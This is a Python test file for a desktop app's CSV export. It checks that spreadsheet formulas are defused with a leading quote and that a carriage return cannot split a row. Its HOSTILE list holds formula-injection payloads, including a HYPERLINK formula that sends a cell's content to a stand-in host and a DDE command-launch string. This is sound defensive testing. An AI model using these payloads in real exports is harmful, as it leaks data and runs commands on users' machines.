"""`anticorr instructions --format csv` writes the export's cells: a formula is text, a
carriage return inside a cell cannot split a row (issue #15)."""

import csv
import io
from datetime import date

from anticorr_desktop import cli
from anticorr_desktop.domain import model as m
from anticorr_desktop.exports.csv_export import csv_text

HOSTILE = ['=HYPERLINK("http://x.example/?q="&A1,"Нажмите")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0"]


def test_instructions_csv_neutralises_formulas_and_keeps_rows_whole(sv, capsys):
    person = m.Person("=Формулов")
    sv.save_person(person)
    ids = [
        sv.issue_instruction(
            text=text,
            executors=[person.id],
            due_text="25.12.2026",
            issued_date=date(2026, 11, 1),
        ).id
        for text in [*HOSTILE, "будет со строкой через CR"]
    ]
    with sv.store.transaction():  # a CR that came in before text was cleaned on entry
        sv.store._update("instruction", ids[-1], {"text": "первая строка\rвторая строка"})
    path = sv.store.path
    sv.store.close()
    rc = cli.main(["--db", str(path), "instructions", "--format", "csv"])
    out = capsys.readouterr().out
    assert rc == 0
    rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=";"))
    assert len(rows) == 2 + len(HOSTILE)  # the header and one row per instruction
    texts = {r[-1] for r in rows[1:]}
    assert texts == {"первая строка\nвторая строка", *("'" + t for t in HOSTILE)}
    assert {r[2] for r in rows[1:]} == {"'=Формулов"}
    assert not any(cell[:1] in "=+-@" for r in rows for cell in r if cell)


def test_csv_text_is_the_one_rule():
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("Иванов - 2") == "Иванов - 2"
